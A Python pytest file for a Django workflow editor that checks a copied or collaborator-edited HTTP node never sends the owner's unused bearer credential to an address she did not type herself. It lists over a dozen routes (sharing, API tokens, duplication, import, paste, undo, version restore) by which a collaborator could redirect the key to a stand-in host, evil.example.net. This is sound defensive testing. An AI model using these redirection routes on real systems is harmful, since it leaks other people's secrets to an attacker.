"""A node that was copied, whichever way, never fills in where an unused credential goes: its owner is asked."""

from collections.abc import Callable
from copy import deepcopy
from dataclasses import dataclass
from typing import Any

import pytest
from django.contrib.auth.models import User
from rest_framework.test import APIClient

from tests.conftest import confirmed
from tests.doubles.http_server import LoopbackServer
from tests.doubles.task_queue import TaskQueue
from tests.factories.documents import node
from tests.factories.run_documents import chain
from tests.factories.workflows import member_create
from tests.workflow_editor.acceptance.api_user import ApiUser, Json, done
from tools.models import Credential
from workflow_editor.models import Workflow, WorkflowMember

EVIL = "https://evil.example.net/items"
HOME = "https://api.example.com/items"


@dataclass
class Copying:
    """Alice, with an unused credential, and bob, who edits a workflow of hers and wants her key."""

    user: ApiUser
    bob: APIClient
    editor: User
    alice: User
    credential: str

    def config(self, url: str) -> Json:
        return {"url": url, "authType": "bearer", "credential": self.credential}

    def document(self, url: str = EVIL) -> Json:
        return chain(node("writer", "http_request", self.config(url)))

    def graph(self, workflow: str) -> Json:
        found: Json = done(self.user.api.get(f"/api/workflows/{workflow}/graph/"))
        return found

    def save(self, api: APIClient, workflow: str, *operations: Json, **headers: Any) -> None:
        body = {"revision": self.graph(workflow)["revision"], "operations": operations}
        done(api.patch(f"/api/workflows/{workflow}/graph/", body, format="json", **headers))

    def set_url(self, api: APIClient, workflow: str, url: str, **headers: Any) -> None:
        self.save(api, workflow, {"op": "update_config", "key": "writer", "set": {"url": url}}, **headers)

    def placed(self) -> str:
        """Alice puts an empty node into her workflow, as the palette does, and chooses the credential."""
        whole = self.document("")
        empty = deepcopy(whole)
        empty["nodes"] = [one for one in empty["nodes"] if one["key"] != "writer"]
        empty["edges"] = []
        workflow = self.user.workflow(empty)
        (writer,) = [one for one in whole["nodes"] if one["key"] == "writer"]
        edges = [{"op": "add_edge", "edge": edge} for edge in whole["edges"]]
        self.save(self.user.api, workflow, {"op": "add_node", "node": {**writer, "config": {}}}, *edges)
        config = {"authType": "bearer", "credential": self.credential}
        self.save(self.user.api, workflow, {"op": "update_config", "key": "writer", "set": config})
        return workflow

    def token(self, api: APIClient) -> Json:
        made = done(confirmed(api).post("/api/tokens/", {"name": "Program"}))
        return {"HTTP_AUTHORIZATION": f"Bearer {made['token']}"}

    def share(self, workflow: str) -> None:
        member_create(Workflow.objects.get(pk=workflow), self.editor, role=WorkflowMember.Role.EDITOR)


WAYS: dict[str, Callable[[Copying], str]] = {}
"""Ways by name: bob's address comes into a workflow of alice's; its id is returned."""


def way(function: Callable[[Copying], str]) -> Callable[[Copying], str]:
    WAYS[function.__name__] = function
    return function


@way
def edited_by_a_member(case: Copying) -> str:
    workflow = case.placed()
    case.share(workflow)
    case.set_url(case.bob, workflow, EVIL)
    return workflow


@way
def edited_with_a_token_of_a_member(case: Copying) -> str:
    workflow = case.placed()
    case.share(workflow)
    case.set_url(APIClient(), workflow, EVIL, **case.token(case.bob))
    return workflow


@way
def edited_with_a_token_of_the_owner(case: Copying) -> str:
    workflow = case.placed()
    case.set_url(APIClient(), workflow, EVIL, **case.token(case.user.api))
    return workflow


@way
def confirmed_by_the_owner_after_a_member(case: Copying) -> str:
    workflow = edited_by_a_member(case)
    case.save(case.user.api, workflow, {"op": "update_config", "key": "writer", "set": {"timeout": 20_000}})
    return workflow


@way
def typed_again_by_the_owner_after_a_member(case: Copying) -> str:
    workflow = edited_by_a_member(case)
    case.set_url(case.user.api, workflow, HOME)
    case.set_url(case.user.api, workflow, EVIL)
    return workflow


@way
def duplicated(case: Copying) -> str:
    body = {"name": "Copy"}
    return str(done(case.user.api.post(f"/api/workflows/{edited_by_a_member(case)}/duplicate/", body))["id"])


@way
def duplicated_and_saved(case: Copying) -> str:
    copy = duplicated(case)
    case.save(case.user.api, copy, {"op": "update_node", "key": "writer", "changes": {"config": case.config(EVIL)}})
    return copy


@way
def exported_and_imported(case: Copying) -> str:
    exported = done(case.user.api.get(f"/api/workflows/{edited_by_a_member(case)}/export/"))
    return case.user.workflow(exported["document"])


@way
def imported_with_the_owners_token(case: Copying) -> str:
    body = {"name": "By program", "document": case.document()}
    return str(done(APIClient().post("/api/workflows/", body, format="json", **case.token(case.user.api)))["id"])


@way
def extracted_into_a_workflow_of_its_own(case: Copying) -> str:
    (copied,) = [one for one in case.graph(edited_by_a_member(case))["nodes"] if one["key"] == "writer"]
    return case.user.workflow(chain(copied))


@way
def pasted(case: Copying) -> str:
    """Paste into a workflow with nodes of alice's; the pasted node runs."""
    (copied,) = [one for one in case.graph(edited_by_a_member(case))["nodes"] if one["key"] == "writer"]
    workflow = case.placed()
    operations: list[Json] = [
        {"op": "remove_node", "key": "writer"},
        {"op": "add_node", "node": {**copied, "key": "pasted"}},
        {"op": "add_edge", "edge": {"id": "to", "source": "start", "target": "pasted"}},
    ]
    case.save(case.user.api, workflow, *operations)
    return workflow


@way
def pasted_and_typed_over(case: Copying) -> str:
    workflow = pasted(case)
    case.save(case.user.api, workflow, {"op": "update_config", "key": "pasted", "set": {"url": EVIL}})
    return workflow


@way
def put_back_by_undo(case: Copying) -> str:
    workflow = edited_by_a_member(case)
    before = case.graph(workflow)
    (old,) = [one for one in before["nodes"] if one["key"] == "writer"]
    edges = [{"op": "add_edge", "edge": edge} for edge in before["edges"]]
    case.save(case.user.api, workflow, {"op": "remove_node", "key": "writer"})
    case.save(case.user.api, workflow, {"op": "add_node", "node": old}, *edges)
    return workflow


@way
def restored_from_a_version(case: Copying) -> str:
    workflow = edited_by_a_member(case)
    (old,) = [one for one in case.graph(workflow)["nodes"] if one["key"] == "writer"]
    case.set_url(case.user.api, workflow, HOME)
    case.save(case.user.api, workflow, {"op": "update_node", "key": "writer", "changes": {"config": old["config"]}})
    return workflow


@way
def filled_in_where_the_node_came_with_its_workflow(case: Copying) -> str:
    workflow = case.user.workflow(case.document(""))
    case.set_url(case.user.api, workflow, EVIL)
    return workflow


@way
def owned_by_alice_after_bob_made_it(case: Copying) -> str:
    body = {"name": "Gift", "document": case.document()}
    workflow = str(done(case.bob.post("/api/workflows/", body, format="json"))["id"])
    member_create(Workflow.objects.get(pk=workflow), case.alice, role=WorkflowMember.Role.EDITOR)
    return workflow


@pytest.fixture
def copying(api_user: ApiUser, alice: User, bob_api: APIClient, bob: User) -> Copying:
    made = done(
        api_user.api.post("/api/credentials/", {"name": "Shop", "kind": "http", "values": {"secret": "planted-key-77"}})
    )
    return Copying(api_user, bob_api, bob, alice, str(made["id"]))


def start(api: APIClient, queue: TaskQueue, workflow: str, path: str = "runs", **body: Any) -> str:
    run = done(api.post(f"/api/workflows/{workflow}/{path}/", body, format="json"))["id"]
    queue.run_all()
    return str(done(api.get(f"/api/runs/{run}/"))["status"])


@pytest.mark.parametrize("name", WAYS)
@pytest.mark.parametrize("path", ["runs", "debug"])
@pytest.mark.everyday_rows(30)
def test_what_was_copied_sends_nothing_without_the_question(
    copying: Copying, queue: TaskQueue, web: LoopbackServer, name: str, path: str
) -> None:
    workflow = WAYS[name](copying)
    key = next(one["key"] for one in copying.graph(workflow)["nodes"] if one["type"] == "http_request")
    way_in = path if path == "runs" else f"nodes/{key}/debug"
    assert start(copying.user.api, queue, workflow, way_in) == "waiting"
    assert not web.received
    assert Credential.objects.get().origins == []


def test_what_the_owner_typed_himself_is_sent_without_a_question(
    copying: Copying, queue: TaskQueue, web: LoopbackServer
) -> None:
    workflow = copying.placed()
    copying.set_url(copying.user.api, workflow, f"{HOME}/{{{{ inputs.topic }}}}")
    assert start(copying.user.api, queue, workflow, inputs={"topic": "tea"}) == "succeeded"
    assert web.received[0].headers["authorization"] == "Bearer planted-key-77"
    assert Credential.objects.get().origins == ["https://api.example.com"]


def test_an_address_that_was_not_saved_is_asked_about(copying: Copying, queue: TaskQueue, web: LoopbackServer) -> None:
    workflow = copying.placed()
    copying.set_url(copying.user.api, workflow, HOME)
    unsaved = copying.config(EVIL)
    assert start(copying.user.api, queue, workflow, "nodes/writer/debug", config=unsaved) == "waiting"
    assert not web.received
